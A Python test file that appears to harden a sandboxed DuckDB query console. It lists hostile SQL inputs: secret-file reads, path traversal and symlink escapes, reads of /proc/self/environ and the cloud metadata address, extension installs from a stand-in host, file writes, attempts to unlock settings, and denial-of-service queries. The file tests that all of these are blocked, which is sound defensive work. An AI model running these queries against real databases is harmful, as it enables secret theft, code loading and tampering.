"""Hostile SQL: nothing is written, and nothing but the warehouse is read.

Every query ends in rows or in a message.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest

from schemas.errors import PairxError
from tasks.sql.console import connect_analyst, run_query
from tasks.sql.results import pieces
from tasks.sql.stoppable import TimeLimit, close
from tasks.store.warehouse import Warehouse
from tests.toy_warehouse import Pair, Photo, Toy

LONGEST = 3.0
"""Seconds after which a query is stopped, which its case allows."""
SAMPLE = 5
"""One large query in so many is tried by the default suite."""
SECRET = "the-secret-of-this-machine"
READING = (
    "SELECT * FROM '{secret}'",
    "SELECT * FROM read_text('{secret}')",
    "SELECT * FROM read_blob('{secret}')",
    "SELECT * FROM read_csv('{secret}')",
    "SELECT * FROM read_csv_auto('{secret}')",
    "SELECT * FROM sniff_csv('{secret}')",
    "SELECT * FROM read_json('{secret}')",
    "SELECT * FROM read_json_auto('{secret}')",
    "SELECT * FROM read_json_objects('{secret}')",
    "SELECT * FROM read_ndjson('{secret}')",
    "SELECT * FROM read_parquet('{secret}')",
    "SELECT * FROM parquet_metadata('{secret}')",
    "SELECT * FROM parquet_schema('{secret}')",
    "SELECT * FROM parquet_file_metadata('{secret}')",
    "SELECT * FROM parquet_kv_metadata('{secret}')",
    "SELECT * FROM parquet_scan(['{secret}'])",
    "SELECT * FROM read_text(['{secret}', '{secret}'])",
    "SELECT * FROM read_text('file://{secret}')",
    "SELECT * FROM read_text('{folder}/../{name}')",
    "SELECT * FROM read_text('{folder}/photos/../../{name}')",
    "SELECT * FROM read_text('{folder}/./../{name}')",
    "SELECT * FROM read_text('{folder}//../{name}')",
    "SELECT * FROM read_text('{folder}/link')",
    "SELECT * FROM read_text('{folder}/away/{name}')",
    "SELECT * FROM read_text('{folder}/aw*/{name}')",
    "SELECT * FROM read_text('{parent}/*')",
    "SELECT * FROM read_text(getvariable('x'))",
    "SELECT * FROM glob('/**')",
    "SELECT * FROM glob('{parent}/*')",
    "SELECT * FROM glob('{folder}/away/*')",
    "SELECT content FROM read_text('/proc/self/environ')",
    "SELECT content FROM read_text('/proc/self/root{secret}')",
    "SELECT content FROM read_text('/dev/stdin')",
    "SELECT content FROM read_text('/dev/zero')",
    "SELECT * FROM read_csv('https://example.invalid/a.csv')",
    "SELECT * FROM read_parquet('s3://bucket/a.parquet')",
    "SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')",
    "SELECT * FROM '\\\\server\\share'",
    "WITH x AS MATERIALIZED (FROM read_text('{secret}')) FROM x",
    "SELECT (SELECT content FROM read_text('{secret}'))",
    "SELECT * FROM query('FROM read_text(''{secret}'')')",
    "SELECT * FROM query_table('{secret}')",
    "SELECT * FROM query_table(['{secret}'])",
    "EXPLAIN ANALYZE SELECT * FROM read_text('{secret}')",
    "SUMMARIZE FROM read_text('{secret}')",
    "DESCRIBE FROM read_csv('{secret}')",
    "SELECT * FROM photos, LATERAL (SELECT * FROM read_text('{secret}'))",
    "SELECT getenv('HOME')",
    "SELECT * FROM which_secret('s3://x', 's3')",
    "SELECT * FROM python_scan_all()",
    "SELECT * FROM pandas_scan(1)",
    "SELECT * FROM arrow_scan(1, 2, 3)",
    "SELECT * FROM arrow_scan_dumb(1, 2, 3)",
    "SELECT * FROM sqlite_scan('{secret}', 'a')",
    "SELECT * FROM SECRET",
)  # fmt: skip
WRITING = (
    "COPY (SELECT 1) TO '{parent}/out.csv'",
    "COPY (SELECT 1) TO '{folder}/photos/fingerprint=00a1/evil.parquet'",
    "COPY photos FROM '{secret}'",
    "EXPLAIN ANALYZE COPY (SELECT 1) TO '{parent}/out.csv'",
    "/**/ EXPLAIN /**/ ANALYZE /**/ COPY (SELECT 1) TO '{parent}/out.csv'",
    "EXPORT DATABASE '{parent}/out'",
    "IMPORT DATABASE '{parent}'",
    "ATTACH '{parent}/x.db'",
    "ATTACH '{parent}/x.db' AS x (TYPE sqlite)",
    "DETACH memory",
    "INSTALL httpfs",
    "INSTALL evil FROM 'http://example.invalid'",
    "FORCE INSTALL httpfs",
    "LOAD '{parent}/evil.duckdb_extension'",
    "UPDATE EXTENSIONS",
    "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
    "CREATE PERSISTENT SECRET s (TYPE s3)",
    "DROP SECRET s",
    "CREATE TABLE t AS FROM photos",
    "CREATE TEMP TABLE t AS FROM photos",
    "CREATE VIEW photos AS SELECT 1",
    "CREATE OR REPLACE VIEW photos AS SELECT 1",
    "CREATE MACRO f(x) AS x",
    "CREATE FUNCTION f(x) AS TABLE FROM read_text(x)",
    "CREATE TYPE t AS ENUM ('a')",
    "CREATE SEQUENCE s",
    "CREATE SCHEMA s",
    "CREATE INDEX i ON current_run (run_id)",
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "SET allowed_directories = ['/']",
    "SET python_enable_replacements = true",
    "SET memory_limit = '1TB'",
    "SET temp_directory = '{parent}'",
    "SET log_query_path = '{parent}/log'",
    "SET custom_extension_repository = 'http://example.invalid'",
    "RESET enable_external_access",
    "PRAGMA enable_profiling",
    "PRAGMA database_size",
    "PRAGMA profiling_output = '{parent}/out'",
    "CALL enable_logging()",
    "CALL force_checkpoint()",
    "SELECT * FROM checkpoint()",
    "SELECT * FROM force_checkpoint()",
    "SELECT write_log('x')",
    "INSERT INTO current_run (run_id) VALUES ('evil')",
    "WITH x AS (INSERT INTO current_run (run_id) VALUES ('evil') RETURNING *) FROM x",
    "FROM (WITH x AS (UPDATE current_run SET run_id = 'evil' RETURNING *) FROM x)",
    "SELECT (WITH x AS (DELETE FROM current_run RETURNING 1) FROM x)",
    "MERGE INTO current_run USING photos ON true WHEN MATCHED THEN DELETE",
    "TRUNCATE current_run",
    "DROP TABLE current_run",
    "ALTER TABLE current_run ADD COLUMN x INT",
    "COMMENT ON VIEW photos IS 'evil'",
    "BEGIN",
    "COMMIT",
    "ROLLBACK",
    "CHECKPOINT",
    "VACUUM ANALYZE",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "DEALLOCATE p",
    "USE memory",
    "SET VARIABLE x = '{secret}'",
    "LOAD httpfs; SELECT 1",
    "SELECT 1; COPY (SELECT 1) TO '{parent}/out.csv'",
    ";;;COPY (SELECT 1) TO '{parent}/out.csv'",
    "",
    ";",
    "-- only words",
    "/* open",
    "'",
    "SELECT",
    "\x00",
    "SELECT '\ud800'",
    "SELECT $1",
    "SELECT ?",
)  # fmt: skip
LARGE = {
    "brackets in brackets": "SELECT " + "(" * 3000 + "1" + ")" * 3000,
    "a sum of 20000 terms": "SELECT " + "+".join(["1"] * 20000),
    "lists in lists": "SELECT " + "[" * 2000 + "1" + "]" * 2000,
    "a query in a query in a query": "SELECT * FROM (" * 500 + "SELECT 1" + ")" * 500,
    "a union of 1000": " UNION ALL ".join(["SELECT 1"] * 1000),
    "5000 columns": "SELECT " + ", ".join(f"{i} AS c{i}" for i in range(5000)),
    "a text of a hundred megabytes": "SELECT length(repeat('x', 100000000))",
    "a cross of everything": "SELECT count(*) FROM range(100000) a, range(100000) b, range(100000) c",
    "a number of 300 digits": "SELECT " + "9" * 300,
    "a query of two megabytes": "SELECT '" + "x" * (2 << 20) + "' AS a",
    "division by nothing": "SELECT 1 / 0, 1 // 0, 1 % 0",
    "an overflow": "SELECT 170141183460469231731687303715884105727::HUGEINT + 1",
    "a pattern that backtracks": "SELECT regexp_matches(repeat('a', 30), '^(a+)+$b')",
    "names of escape sequences": 'SELECT 1 AS "\x1b[31m", \'\x1b]0;x\x07\' AS "\u202e"',
    "times beyond Python's": "SELECT DATE '290000-01-01', TIMESTAMP 'infinity', INTERVAL '90000 years'",
    "a world of types": "SELECT MAP {'a': 1}, {'a': [1, NULL]}, 'x'::BLOB, 1::BIT, uuid(), 'NaN'::DOUBLE, union_value(a := 1), [[1]]",
    "what the settings are": "SELECT name, value FROM duckdb_settings()",
    "what the secrets are": "SELECT * FROM duckdb_secrets()",
    "what the extensions are": "SELECT extension_name FROM duckdb_extensions()",
    "what the log is": "SELECT * FROM duckdb_logs()",
    "a recursion that ends": "WITH RECURSIVE t AS (SELECT 1 AS a UNION ALL SELECT a + 1 FROM t WHERE a < 2000) SELECT max(a) FROM t",
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse beside a secret, with links that lead to it."""
    parent = tmp_path_factory.mktemp("sql")
    (parent / "secret.txt").write_text(SECRET)
    photos = [Photo(f"{name}{i}", name, f"e{name}{i}") for name in "AB" for i in range(2)]
    Toy(photos, [Pair("A0", "B0", 0.5)]).write(Warehouse(str(parent / "w")))
    (parent / "w" / "link").symlink_to(parent / "secret.txt")
    (parent / "w" / "away").symlink_to(parent)
    return parent / "w"


@pytest.fixture(scope="module")
def analyst(folder: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    connection = connect_analyst(str(folder))
    yield connection
    connection.close()


def asked(analyst: duckdb.DuckDBPyConnection, query: str) -> str:
    """All that a query says, in every format, or its message."""
    try:
        found = run_query(analyst, query, TimeLimit(LONGEST))
    except PairxError as error:
        return str(error)
    return "".join(
        piece for kind in ("table", "csv", "json") for piece in pieces(found.schema, found.to_batches(), kind)
    )  # type: ignore[arg-type]


def filled(query: str, folder: Path) -> str:
    secret = folder.parent / "secret.txt"
    return (
        query.format(secret=secret, name=secret.name, parent=folder.parent, folder=folder)
        if "{" in query
        else query
    )


def still_whole(analyst: duckdb.DuckDBPyConnection) -> None:
    assert run_query(analyst, "SELECT run_id FROM current_run").to_pylist() == [{"run_id": "r1"}]
    assert run_query(analyst, "SELECT count(*) AS n FROM photos").to_pylist() == [{"n": 4}]


@pytest.mark.parametrize("query", READING, ids=ascii)
def test_nothing_but_the_warehouse_is_read(
    analyst: duckdb.DuckDBPyConnection, folder: Path, query: str
) -> None:
    assert SECRET not in asked(analyst, filled(query, folder))
    still_whole(analyst)


@pytest.mark.parametrize("query", WRITING, ids=lambda q: ascii(q)[:60])
def test_nothing_is_written_and_nothing_is_set(
    analyst: duckdb.DuckDBPyConnection, folder: Path, query: str
) -> None:
    before = sorted(str(path) for path in folder.parent.rglob("*"))
    asked(analyst, filled(query, folder))
    assert sorted(str(path) for path in folder.parent.rglob("*")) == before
    set_to = run_query(
        analyst,
        "SELECT value FROM duckdb_settings() WHERE name IN ('enable_external_access', 'lock_configuration') ORDER BY name",
    ).to_pylist()
    assert [row["value"] for row in set_to] == ["false", "true"]
    still_whole(analyst)


@pytest.mark.parametrize(
    "name", [pytest.param(n, marks=[pytest.mark.slow] if i % SAMPLE else []) for i, n in enumerate(LARGE)]
)
def test_large_and_strange_queries_end_in_rows_or_a_message(folder: Path, name: str) -> None:
    # A query that is stopped while it is being parsed keeps its connection busy.
    connection = connect_analyst(str(folder))
    try:
        said = asked(connection, LARGE[name])
    finally:
        close(connection)
    assert said
    # CSV is data: it keeps signs of writing direction, and no control characters.
    assert not {c for c in said if unicodedata.category(c) == "Cc"} - set("\n\t")
